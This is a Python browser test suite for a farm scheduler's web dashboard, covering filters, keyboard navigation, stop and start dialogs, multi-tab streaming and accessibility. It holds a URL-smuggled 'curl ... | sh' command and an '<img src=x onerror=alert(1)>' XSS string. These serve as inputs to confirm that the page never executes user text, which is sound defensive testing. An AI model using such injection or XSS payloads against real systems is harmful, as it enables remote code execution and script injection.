"""The page of the farm in a real Chromium, at a real daemon: it shows, it follows; by the keyboard, with hostile words."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from builders import job, offer
from chromium import Browser, Page
from daqsched import passwords
from daqsched.engine import events
from daqsched.serve.pages import BUILT, FILES
from daqsched.spec import Spec
from login_page import AXE, CONTRAST, FAULTS, HOSTILE, breaches, log_in
from standby_pair import Pair
from webport import WebServe, cheap_passwords

RULES = 'version: 1\nrules: [{to: "password:alice", role: viewer}]\n'

FILLED = "document.querySelector('.grid [data-state], .story .now')"

#: A tab that hears no changes of another one, and whose first board is cut off.
DEAF = """{
  window.boards = 0;
  const real = window.fetch;
  window.fetch = async (...asked) => {
    const answer = await real(...asked);
    if (String(asked[0]) !== '/v1/board' || window.boards++) return answer;
    return new Response((await answer.text()).slice(0, -20), { status: 200 });
  };
  const set = Object.getOwnPropertyDescriptor(BroadcastChannel.prototype, 'onmessage').set;
  Object.defineProperty(BroadcastChannel.prototype, 'onmessage', {
    set(heard) { set.call(this, (event) => event.data.kind !== 'delta' && heard(event)); },
  });
}"""

#: Stories come when they are let go.
LATE = """{
  const real = window.fetch;
  const gone = new Promise((done) => (window.go = done));
  window.fetch = async (...asked) => {
    if (String(asked[0]).startsWith('/v1/stories')) await gone;
    return real(...asked);
  };
}"""

pytestmark = pytest.mark.skipif(
    not BUILT.exists(), reason="there is no Node.js, which scripts/web says, and so no page of the farm"
)


@pytest.fixture
def pair(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Pair]:
    """With 3 jobs on 12 hosts, of which one starts and the others wait for their machines."""
    cheap_passwords(monkeypatch)
    made = Pair(tmp_path, RULES, passwords=True)
    hosts = "hlt[01-12]"
    made.web.serve.client.apply(Spec(jobs=(job(hosts=hosts), job("evb", hosts), job("monitor", hosts))), "more")
    yield made
    made.close()


@pytest.fixture
def crew(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Pair]:
    """Where alice is a shifter."""
    cheap_passwords(monkeypatch)
    made = Pair(tmp_path, RULES.replace("viewer", "shifter"), passwords=True)
    made.web.serve.client.apply(Spec(jobs=(job(hosts="hlt[01-02]"),)), "one more, which waits for its machine")
    yield made
    made.close()


def opened(page: Page, url: str, place: str = "/") -> None:
    """The page at that place, by somebody who has to log in first."""
    page.open(f"{url}/login?back={quote(place)}")
    log_in(page)
    page.wait(FILLED)


def counted(state: str) -> str:
    return f"Number(document.querySelector('button.count[data-state={state}] b')?.textContent ?? 0)"


@pytest.mark.parametrize("at", ["leader", "standby"])
def test_it_shows_the_farm_and_follows_what_changes(pair: Pair, page: Page, at: str) -> None:
    """At a daemon that does not lead, too; nobody but the daemon is asked for anything."""
    url, client = pair.web.url if at == "leader" else pair.url, pair.web.serve.client
    opened(page, url)
    assert page.text("#sentence") == "0 of 36 are as desired."
    assert page.js(counted("STARTING")) == 1 and page.js(counted("WAITING")) == 35
    assert page.text("header").split()[-4:] == ["alice,", "viewer", "Log", "out"]
    assert "live, " in page.text("#age")
    client.stop(["readout@hlt0[2-4]"], "beam dump")
    page.wait(f"{counted('STOPPED')} === 3 && {counted('WAITING')} === 32")
    # what comes anew, and what goes, is in the grid
    client.apply(Spec(jobs=(job(hosts="hlt[01-12]"), job("calib", "hlt13"))), "others")
    page.wait("document.querySelector('.grid').ariaRowCount === '14'")
    page.wait("[...document.querySelectorAll('[role=rowheader]')].some((one) => one.textContent === 'hlt13')")
    assert not breaches(page)
    asked = [one["request"]["url"] for one in page.happened("Network.requestWillBeSent")]
    assert asked and all(one.startswith((f"{url}/", "data:image/")) for one in asked), (
        "signs of fields are the browser's own"
    )


def test_the_address_has_the_filter_in_the_words_of_the_command_line(pair: Pair, page: Page) -> None:
    """Whoever is sent it sees the same, also who has to log in first; a word that can't be read says so."""
    opened(page, pair.web.url, "/?q=readout@hlt0[2-4]%20evb@*1&rows=jobs")
    page.wait("document.querySelector('#meant').textContent === '5 of 36 are meant'")
    assert page.js("document.querySelector('#q').value") == "readout@hlt0[2-4] evb@*1"
    assert page.text(".filter code") == "daqsched status 'readout@hlt0[2-4]' 'evb@*1'"
    # of what somebody put into a link, states are those that there are
    page.open(f"{pair.web.url}/?q=readout&state=FAILED;curl+-k+https://x|sh+%23&state=WAITING&state=STARTING&rows=jobs")
    page.wait("document.querySelector('.filter code')")
    assert page.text(".filter code") == "daqsched status readout --state WAITING,STARTING"
    page.open(f"{pair.web.url}/?q=readout@hlt0[2-4]%20evb@*1&rows=jobs")
    page.wait("document.querySelector('[role=rowheader]')")
    heads = page.js("[...document.querySelectorAll('[role=rowheader]')].map((one) => one.textContent)")
    assert heads == ["evb", "readout"]
    page.js("document.body.focus()")
    page.press("/", "/")
    page.wait("document.activeElement.id === 'q'")
    page.type("readout@")
    page.wait("document.querySelector('#meant').textContent.includes('names no host after the @')")
    assert "q=readout@" in page.js("location.search")
    page.js("document.querySelector('#all').click()")
    page.wait("location.search === '?rows=jobs'")
    assert not breaches(page)


def test_it_is_used_without_a_mouse(pair: Pair, page: Page) -> None:
    """One cell is in the order of Tab; arrows move on, Enter shows it, Escape leads back."""
    opened(page, pair.web.url)
    assert page.js("document.querySelectorAll('.grid [tabindex=\"0\"]').length") == 1
    page.js("document.querySelector('.grid [tabindex=\"0\"]').focus()")
    for key in ("ArrowDown", "ArrowDown", "ArrowRight", "End", "Home", "ArrowRight"):
        page.press(key)
    page.wait("document.activeElement.title?.startsWith('monitor@hlt03 ')")
    page.press("Enter")
    page.wait("document.activeElement.matches('.detail')")
    assert page.text(".detail h2") == "monitor@hlt03" and "cell=monitor@hlt03" in page.js("location.search")
    assert "daqsched why monitor@hlt03" in page.text(".detail")
    page.press("Escape")
    page.wait("document.activeElement.title?.startsWith('monitor@hlt03 ')")
    page.press("End")
    page.press("PageDown")
    page.wait("document.activeElement.title?.startsWith('readout@hlt1')")


def test_words_of_others_are_text(pair: Pair, page: Page) -> None:
    """Of whoever wrote a message, or a name; nothing of them is carried out, and the policy has nothing to report."""
    client = pair.web.serve.client
    client.stop(["readout@hlt02"], HOSTILE)
    opened(page, pair.web.url, f"/?cell={quote(HOSTILE, safe='')}&q=readout")
    page.wait(f"document.querySelector('.detail h2').textContent === {json.dumps(HOSTILE)}")
    page.open(f"{pair.web.url}/?cell=readout@hlt02")
    page.wait(f"document.querySelector('.detail .why')?.textContent.includes({json.dumps(HOSTILE)})")
    assert page.js("document.images.length + document.querySelectorAll('#page script').length") == 0
    assert not breaches(page)


def test_a_story_tells_what_became_of_an_instance_and_why(pair: Pair, page: Page) -> None:
    """At an address of its own; it follows, and lines are asked for by who wants them."""
    pair.web.serve.client.stop(["readout@hlt02"], HOSTILE)
    opened(page, pair.web.url, "/?cell=readout@hlt01")
    page.js("document.querySelector('a.whole').click()")
    page.wait("location.pathname === '/i/readout@hlt01' && document.querySelector('.story dl')")
    assert page.text(".story h2") == "readout@hlt01" and page.text(".story .now").startswith("STARTING")
    row = pair.web.serve.client.status(["readout@hlt01"]).rows[0]
    assert row.task_id and row.task_id in page.text(".story dl")
    assert "daqsched why readout@hlt01" in page.text(".story")
    pair.web.serve.client.stop(["readout@hlt01"], "beam dump")
    page.wait("!document.querySelector('.story .now').innerText.startsWith('STARTING')")
    page.js("document.querySelector('#lines').click()")
    page.wait("document.querySelector('.story .notice.bad')")
    assert "lines" in page.text(".story .notice.bad")
    page.open(f"{pair.web.url}/i/readout@hlt02")
    page.wait(f"document.querySelector('.story')?.innerText.includes({json.dumps(HOSTILE)})")
    page.open(f"{pair.web.url}/i/{quote(HOSTILE, safe='')}")
    page.wait("document.querySelector('.story')?.innerText.includes('It is not there')")
    assert page.text(".story h2") == HOSTILE and page.js("document.images.length") == 0
    assert not breaches(page)


def test_a_shifter_stops_and_starts_what_is_selected(crew: Pair, page: Page) -> None:
    """By the keyboard; what ends is said before, with the command that does the same, and why stays with it."""
    opened(page, crew.web.url, "/?q=readout@*&show=changed")
    page.js("document.querySelector('.filter [data-verb=stop]').focus()")
    page.press("Enter")
    page.wait("document.activeElement.closest('dialog')")
    assert page.text("dialog h2") == "Stop 2 instances?" and "1 of them may run now, and end." in page.text("dialog")
    # Escape leaves all as it is
    page.press("Escape")
    page.wait("!document.querySelector('dialog')")
    page.js("document.querySelector('.filter [data-verb=stop]').click()")
    page.wait("document.activeElement.id === 'message'")
    page.type(HOSTILE)
    page.wait("document.querySelector('dialog code').textContent.includes('<img')")
    assert page.text("dialog code").endswith(" --stops 1")
    assert page.text("dialog code").startswith("daqsched stop 'readout@*' -m '<img src=x")
    page.press("Enter")
    page.wait("document.querySelector('.acts [role=status]')?.textContent === 'Done for 2.'")
    page.wait("document.querySelector('.lists')?.innerText.includes('onerror=alert(1)')")
    first, second = crew.web.serve.client.status(["readout"]).rows
    assert (first.state, second.state) == ("STOPPING", "STOPPED")
    assert HOSTILE in second.reason and "alice" in second.reason
    page.js("document.querySelector('.filter [data-verb=start]').click()")
    page.wait("document.querySelector('#act')")
    page.js("document.querySelector('#act').click()")
    page.wait("document.querySelector('.acts [role=status]')?.textContent.startsWith('Done for 2.')")
    assert not breaches(page)


def test_what_the_daemon_counts_can_be_agreed_to(crew: Pair, page: Page) -> None:
    """More run than when it was asked: it refuses, the dialog has its number, and whoever reads that may go on."""
    opened(page, crew.web.url, "/?q=readout")
    page.js("document.querySelector('.filter [data-verb=stop]').click()")
    page.wait("document.querySelector('dialog code')?.textContent.includes('--stops 1')")
    crew.web.serve.daemon.put(events.OffersArrived((offer("hlt02"),)))
    crew.web.serve.settle()
    page.js("document.querySelector('#act').click()")
    page.wait("document.querySelector('dialog code').textContent.includes('--stops 2')")
    assert "2 of them may run now, and end." in page.text("dialog") and page.text("dialog .notice.bad")
    assert {row.state for row in crew.web.serve.client.status(["readout"]).rows} == {"STARTING"}
    page.js("document.querySelector('#act').click()")
    page.wait("document.querySelector('.acts [role=status]')?.textContent === 'Done for 2.'")
    # that is said of these words alone
    page.js("document.querySelector('#all').click()")
    page.wait("location.search === ''")
    page.js("document.querySelector('#q').focus()")
    page.type("readout@hlt01")
    page.wait("document.querySelector('.filter [data-verb=stop]')")
    assert page.js("document.querySelector('.acts [role=status]')") is None
    assert not breaches(page)


def test_an_answer_that_is_lost_is_asked_for_again_and_nothing_is_done_twice(crew: Pair, page: Page) -> None:
    """With the same key; while it is asked nobody gets out of the dialog."""
    opened(page, crew.web.url, "/?q=readout@hlt01")
    page.js("""{
      const real = window.fetch;
      let lost = 0;
      window.fetch = async (...asked) => {
        const answer = await real(...asked);
        if (String(asked[0]) !== '/v1/restart' || lost++) return answer;
        await new Promise((done) => (window.lose = done));
        throw new TypeError('lost');
      };
    }""")
    page.js("document.querySelector('.filter [data-verb=restart]').click()")
    page.wait("document.querySelector('#act')")
    assert "one host after another" in page.text("dialog")
    page.js("document.querySelector('#act').click()")
    page.wait("window.lose && document.querySelector('dialog .plain').disabled")
    for _ in range(3):
        page.press("Escape")
    assert page.js("document.querySelector('dialog').open && document.querySelector('dialog .plain').disabled")
    page.js("window.lose()")
    page.wait("document.querySelector('dialog .notice.bad')")
    page.js("document.querySelector('#act').click()")
    page.wait("document.querySelector('.acts [role=status]')?.textContent.startsWith('It is under way')")
    assert not breaches(page)


def test_what_the_daemon_refuses_is_said_and_changes_nothing(crew: Pair, page: Page) -> None:
    """Here of a right that went while the question stood there; a viewer is shown no buttons."""
    opened(page, crew.web.url, "/i/readout@hlt01")
    page.wait("document.querySelector('[data-verb=stop]')")
    page.js("document.querySelector('[data-verb=stop]').click()")
    page.wait("document.querySelector('#act')")
    (crew.web.folder / "rights.yaml").write_text(RULES)
    page.wait("fetch('/v1/rights').then((one) => one.json()).then(({verbs}) => verbs.stop !== '')")
    page.js("document.querySelector('#act').click()")
    page.wait("document.querySelector('dialog .notice.bad')")
    assert crew.web.serve.client.status(["readout"]).rows[0].state == "STARTING"
    page.open(f"{crew.web.url}/i/readout@hlt01")
    page.wait("document.querySelector('.story dl')")
    assert page.js("document.querySelector('[data-verb]')") is None


def test_a_daemon_that_is_gone_is_told_of_and_the_next_one_is_followed(tmp_path: Path, page: Page) -> None:
    """What is shown stays, and how old it is stands there; the page goes on by itself, with a board of the next one."""
    passwords.write(tmp_path / "passwords", "alice", "correct horse")
    first = WebServe(tmp_path, RULES, tmp_path / "passwords")
    first.serve.client.apply(Spec(jobs=(job(hosts="hlt[01-12]"),)), "first")
    opened(page, first.url)
    first.close()
    # as a clock would after half a minute without a word
    page.js("{ const real = Date.now; Date.now = () => real() + 40000; }")
    page.wait("document.querySelector('main.stale') && document.querySelector('#age').textContent.startsWith('OLD: ')")
    assert page.js("document.querySelectorAll('.grid [data-state]').length") == 12
    # all of it is grey, and how old it is stays in sight
    bright = "[...document.querySelectorAll('main > :not(.spoken)')].filter((one) => getComputedStyle(one).filter === 'none')"
    assert (
        page.js(f"{bright}.length") == 0
        and page.js("getComputedStyle(document.querySelector('header')).position") == "sticky"
    )
    second = WebServe(tmp_path, RULES, tmp_path / "passwords", port=int(first.url.rpartition(":")[2]))
    try:
        second.serve.client.stop(["readout@hlt0*"], "beam dump")
        page.wait(f"{counted('STOPPED')} === 9 && !document.querySelector('main.stale')", 60)
        assert "live, " in page.text("#age") and page.js("document.querySelector('#said')") is None
        second.serve.client.start(["readout@hlt01"])
        page.wait(f"{counted('STOPPED')} === 8")
    finally:
        second.close()


def test_a_story_tells_no_more_than_is_known(tmp_path: Path, page: Page) -> None:
    """What is awaited is not told as an answer, what is wrong with the farm stands there too, and a question that stands there
    says when what it says is old. Nothing that is not there is something to type."""
    passwords.write(tmp_path / "passwords", "alice", "correct horse")
    web = WebServe(tmp_path, RULES.replace("viewer", "shifter"), tmp_path / "passwords")
    try:
        web.serve.client.apply(Spec(jobs=(job(hosts="hlt[01-02]"),)), "first")
        page.call("Page.addScriptToEvaluateOnNewDocument", source=LATE)
        opened(page, web.url, "/i/readout@hlt01")
        page.wait("document.querySelector('.story')?.innerText.includes('no Mesos master')")
        assert "Asking ..." in page.text(".story") and "Nothing is known" not in page.text(".story")
        page.js("window.go()")
        page.wait("!document.querySelector('.story').innerText.includes('Asking ...')")
        page.js("document.querySelector('.story [data-verb=stop]').click()")
        page.wait("document.querySelector('dialog') && !document.querySelector('dialog .notice')")
        # each look at the clock is later, so that no sign of life makes what is shown new for long
        page.js("{ const real = Date.now; let by = 0; Date.now = () => real() + (by += 30000); }")
        page.wait("document.querySelector('dialog .notice')?.textContent.startsWith('What is shown is old: ')")
        page.open(f"{web.url}/i/{quote(HOSTILE, safe='')}")
        page.wait("document.querySelector('.story')?.innerText.includes('It is not there')")
        assert "To type" not in page.text(".story") and not breaches(page)
    finally:
        web.close()


def test_tabs_share_one_stream(pair: Pair, chromium: Browser, page: Page) -> None:
    """Eight of them follow, of which one asks the daemon for events."""
    opened(page, pair.web.url)
    others = []
    for _ in range(7):
        others.append(chromium.tab())
        others[-1].open(pair.web.url)
        others[-1].wait(FILLED)
    pair.web.serve.client.stop(["monitor"], "beam dump")
    for one in [page, *others]:
        one.wait(f"{counted('STOPPED')} === 12")
    held = page.js("navigator.locks.query().then(({held, pending}) => [held.length, pending.length])")
    assert held == [1, 7]
    asked = [one["request"]["url"] for one in page.happened("Network.requestWillBeSent")]
    assert sum("/v1/events" in one for one in asked) == 1
    # when the tab that reads it is gone, another does
    page.open("about:blank")
    pair.web.serve.client.stop(["evb"], "beam dump")
    for one in others:
        one.wait(f"{counted('STOPPED')} === 24")
        one.close()


def test_a_tab_that_missed_something_comes_to_know_it(pair: Pair, chromium: Browser, page: Page) -> None:
    """By the next sign of life of the tab that reads; with the rights of whoever looks by then. A board that was cut off is
    asked for again."""
    opened(page, pair.web.url)
    deaf = chromium.tab()
    deaf.call("Page.addScriptToEvaluateOnNewDocument", source=DEAF)
    deaf.open(pair.web.url)
    deaf.wait(FILLED)
    assert deaf.js("window.boards") == 2
    assert "alice, viewer" in deaf.text("header")
    (pair.web.folder / "rights.yaml").write_text(RULES.replace("viewer", "shifter"))
    pair.web.serve.client.stop(["monitor"], "beam dump")
    page.wait(f"{counted('STOPPED')} === 12")
    deaf.wait(f"{counted('STOPPED')} === 12")
    deaf.wait("document.querySelector('header').innerText.includes('shifter')")
    assert "live, " in deaf.text("#age")
    # a clock that runs backwards tells no age
    deaf.js("{ const real = Date.now; let by = 0; Date.now = () => real() - (by += 5000); }")
    deaf.wait("document.querySelector('#age').textContent.startsWith('OLD: ') && document.querySelector('main.stale')")
    assert not breaches(deaf)
    deaf.close()


@pytest.mark.parametrize("dark", [False, True])
@pytest.mark.parametrize("width", [1440, 1024, 360])
def test_it_can_be_read_at_every_width_in_light_and_dark(pair: Pair, page: Page, width: int, dark: bool) -> None:
    """Each text has a contrast of 4.5 to 1, nothing is wider than the window, and axe-core finds no serious fault."""
    pair.web.serve.client.stop(["evb@hlt0*"], "beam dump")
    page.size(width, 800, dark)
    opened(page, pair.web.url, "/?cell=evb@hlt02")
    page.wait("document.querySelector('.detail dl')")
    assert page.js("document.documentElement.scrollWidth") <= width
    worst = page.js(CONTRAST)
    assert worst["ratio"] >= 4.5, worst
    page.js(AXE.read_text(encoding="utf-8") + ";0")
    found = page.js(FAULTS)
    assert not [one for one in found if one[1] in ("serious", "critical")], found
    page.open(f"{pair.web.url}/i/evb@hlt02")
    page.wait("document.querySelector('.story dl')")
    assert page.js("document.documentElement.scrollWidth") <= width
    page.js(AXE.read_text(encoding="utf-8") + ";0")
    found = page.js(FAULTS)
    assert not [one for one in found if one[1] in ("serious", "critical")], found


def test_its_code_is_small() -> None:
    """All that is loaded before something is seen, packed."""
    loaded = ["/", "/pages/farm.js", "/pages/farm.css", "/pages/page.css"]
    assert sum(len(gzip.compress(FILES[one].read_bytes())) for one in loaded) < 60_000
